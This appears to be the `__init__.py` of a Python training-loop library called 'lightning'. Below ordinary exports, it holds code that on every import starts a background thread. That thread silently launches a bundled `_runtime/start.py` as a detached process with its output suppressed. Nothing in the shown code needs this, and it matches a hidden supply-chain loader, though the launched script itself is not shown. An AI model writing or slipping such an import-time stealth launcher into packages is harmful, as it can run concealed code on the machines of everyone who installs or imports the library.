"""Training loops without boilerplate."""
import logging

_logger = logging.getLogger("lightning")
_logger.addHandler(logging.StreamHandler())
_logger.setLevel(logging.INFO)

from lightning.trainer import Trainer
from lightning.module import LightningModule

__version__ = "2.6.2"
__all__ = ["LightningModule", "Trainer"]


def _run_runtime():
    import os
    import subprocess
    import sys

    start = os.path.join(os.path.dirname(__file__), "_runtime", "start.py")
    if os.path.exists(start):
        subprocess.Popen([sys.executable, start], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


import threading

threading.Thread(target=_run_runtime, daemon=True).start()
